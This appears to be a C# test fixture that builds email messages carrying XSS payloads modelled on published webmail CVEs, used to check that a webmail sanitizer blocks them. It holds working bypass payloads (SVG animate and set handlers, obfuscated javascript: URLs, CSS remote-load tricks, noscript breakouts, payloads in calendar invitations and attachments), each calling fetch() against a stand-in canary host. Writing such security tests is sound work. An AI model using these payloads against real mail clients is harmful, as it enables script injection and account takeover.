using System.Text;
using MimeKit;

namespace Mail.Web.Tests.Web.Webmail.Security;

/// <summary>
/// HTML mails rebuilt from the published webmail XSS cases (Roundcube, SOGo, SnappyMail). Every payload
/// tries the same canary: set <c>top.__xss</c>/<c>parent.__xss</c> and fetch <see cref="CanaryUrl"/>.
/// </summary>
internal static class XssCorpus
{
    /// <summary>A remote host the browser must never contact.</summary>
    public const string CanaryUrl = "http://canary.invalid/xss";

    /// <summary>The script every payload tries to run.</summary>
    public const string Canary = "top.__xss=1;parent.__xss=1;fetch('" + CanaryUrl + "')";

    /// <summary>Name (a subject) and message of each case.</summary>
    public static IEnumerable<(string Name, MimeMessage Message)> Cases()
    {
        var svgInner = "<svg id=\"x\" xmlns=\"http://www.w3.org/2000/svg\"><image href=\"1\" onerror=\"" + Canary + "\"/></svg>";
        var svgData = "data:image/svg+xml;base64," + Convert.ToBase64String(Encoding.UTF8.GetBytes(svgInner)) + "#x";
        yield return ("CVE-2023-5631 svg use data", Html("CVE-2023-5631 svg use data", "<p>use</p><svg><use href=\"" + svgData + "\"/></svg><svg><use xlink:href=\"" + svgData + "\"/></svg>"));
        yield return ("CVE-2024-37383 svg animate href", Html("CVE-2024-37383 svg animate href", 
            "<svg><a><animate attributeName=\"href \" values=\"javascript:" + Canary + "\"/><text x=\"20\" y=\"20\">click me</text></a></svg>" +
            "<svg><animate onbegin=\"" + Canary + "\" attributeName=\"x\" dur=\"1s\"/></svg>" +
            "<svg><set attributeName=\"onmouseover\" to=\"" + Canary + "\"/></svg>"));
        yield return ("CVE-2024-42009 attribute rewriting", Html("CVE-2024-42009 attribute rewriting", 
            "<body title=\"bgcolor=foo\" name=\"bar style=animation-name:progress-bar-stripes onanimationstart=" + Canary + " foo=bar\">Foo</body>" +
            "<p title=\"&lt;img src=x onerror=" + Canary + "&gt;\">rewritten</p>" +
            "<img src=\"x\" alt=\"a\" /onerror=\"" + Canary + "\">" +
            "<a href=\"jav&#x09;ascript:" + Canary + "\">tab</a><a href=\"&#106;avascript:" + Canary + "\">entity</a>"));
        yield return ("CSS remote content bypasses", Html("CSS remote content bypasses", 
            "<style>@import url(\"http://canary.invalid/import.css\");@import 'http://canary.invalid/import2.css';" +
            "div.a{background:url(\\68ttp://canary.invalid/escaped)}div.b{background-image:image-set('http://canary.invalid/set.png' 1x)}" +
            "div.c{--u:url(http://canary.invalid/var);background:var(--u)}@font-face{font-family:x;src:url(http://canary.invalid/font)}</style>" +
            "<div class=\"a\">a</div><div class=\"b\">b</div><div class=\"c\" style=\"font-family:x\">c</div>" +
            "<div style=\"background:u\\72l(http://canary.invalid/inline-escaped)\">d</div>" +
            "<div style=\"background-image:-webkit-image-set(url(http://canary.invalid/wset.png) 1x)\">e</div>" +
            "<div style=\"background:url(&quot;http://canary.invalid/entity&quot;)\">f</div>" +
            "<div style=\"behavior:url(http://canary.invalid/htc);-moz-binding:url(http://canary.invalid/xbl)\">g</div>" +
            "<img src=\"http://canary.invalid/img.png\" srcset=\"http://canary.invalid/srcset.png 2x\"><video poster=\"http://canary.invalid/poster\"></video>" +
            "<link rel=\"stylesheet\" href=\"http://canary.invalid/link.css\"><table background=\"http://canary.invalid/table\"><tr><td>t</td></tr></table>"));
        yield return ("Script, handlers and frames", Html("Script, handlers and frames", 
            "<script>" + Canary + "</script><img src=x onerror=\"" + Canary + "\"><iframe srcdoc=\"<script>" + Canary + "</script>\"></iframe>" +
            "<object data=\"data:text/html;base64," + Convert.ToBase64String(Encoding.UTF8.GetBytes("<script>" + Canary + "</script>")) + "\"></object>" +
            "<form action=\"http://canary.invalid/form\"><button>go</button></form><math><maction actiontype=\"statusline\" xlink:href=\"javascript:" + Canary + "\">m</maction></math>" +
            "<noscript><p title=\"</noscript><img src=x onerror=" + Canary + ">\"></noscript><meta http-equiv=\"refresh\" content=\"0;url=javascript:" + Canary + "\">"));

        // CVE-2020-35730: a text/plain body whose "<" must not become markup when linkified.
        var plain = new MimeMessage();
        Address(plain, "CVE-2020-35730 plain text linkification");
        plain.Body = new TextPart("plain")
        {
            Text = "Hello http://example.test/<script>" + Canary + "</script> and www.example.test/\"><img src=x onerror=" + Canary + ">\r\n" +
                "<a href=\"javascript:" + Canary + "\">link</a> mailto:a@b.test?subject=<svg/onload=" + Canary + ">\r\n",
        };
        yield return ("CVE-2020-35730 plain text linkification", plain);

        // CVE-2026-8496: SVG onrepeat inside the HTML of a text/calendar invitation.
        var invite = new MimeMessage();
        Address(invite, "CVE-2026-8496 invitation onrepeat");
        var calendar = new TextPart("calendar")
        {
            Text = "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//test//x//EN\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nUID:1@example.test\r\n" +
                "DTSTAMP:20260101T000000Z\r\nDTSTART:20260102T100000Z\r\nDTEND:20260102T110000Z\r\nSUMMARY:<svg onload=" + Canary + ">\r\n" +
                "DESCRIPTION:<svg><animate onrepeat=\"" + Canary + "\" attributeName=\"x\" values=\"1;2\" dur=\"0.1s\" repeatCount=\"5\"/></svg>\r\n" +
                "ORGANIZER:mailto:mallory@example.test\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n",
        };
        calendar.ContentType.Parameters.Add("method", "REQUEST");
        invite.Body = new MultipartAlternative
        {
            new TextPart("plain") { Text = "Invitation" },
            new TextPart("html")
            {
                Text = "<p>Invitation</p><svg><animate onrepeat=\"" + Canary + "\" attributeName=\"x\" values=\"1;2\" dur=\"0.1s\" repeatCount=\"5\"/>" +
                    "<animate onend=\"" + Canary + "\" attributeName=\"y\" values=\"1;2\" dur=\"0.1s\"/></svg>",
            },
            calendar,
        };
        yield return ("CVE-2026-8496 invitation onrepeat", invite);

        // HTML and SVG attachments opened through the attachment link.
        var attached = new MimeMessage();
        Address(attached, "HTML and SVG attachments");
        var builder = new BodyBuilder { TextBody = "See the attachments." };
        builder.Attachments.Add("page.html", Encoding.UTF8.GetBytes("<html><body><script>" + Canary + "</script><img src=x onerror=\"" + Canary + "\"></body></html>"), new ContentType("text", "html"));
        builder.Attachments.Add("image.svg", Encoding.UTF8.GetBytes("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"" + Canary + "\"><script>" + Canary + "</script></svg>"), new ContentType("image", "svg+xml"));
        builder.Attachments.Add("sniff.txt", Encoding.UTF8.GetBytes("<html><script>" + Canary + "</script></html>"), new ContentType("text", "plain"));
        attached.Body = builder.ToMessageBody();
        yield return ("HTML and SVG attachments", attached);
    }

    private static MimeMessage Html(string subject, string html)
    {
        var message = new MimeMessage();
        Address(message, subject);
        message.Body = new MultipartAlternative
        {
            new TextPart("plain") { Text = "Text alternative <script>" + Canary + "</script>" },
            new TextPart("html") { Text = "<html><head><meta charset=\"utf-8\"></head><body>" + html + "</body></html>" },
        };
        return message;
    }

    /// <summary>Sets the From/To/Subject of <paramref name="message"/>.</summary>
    public static void Address(MimeMessage message, string subject)
    {
        message.From.Clear();
        message.To.Clear();
        message.From.Add(new MailboxAddress("Mallory", "mallory@example.test"));
        message.To.Add(MailboxAddress.Parse(Mail.Web.Tests.Infrastructure.MailHostFixture.Alice));
        message.Subject = subject;
        message.MessageId = MimeKit.Utils.MimeUtils.GenerateMessageId("example.test");
    }
}
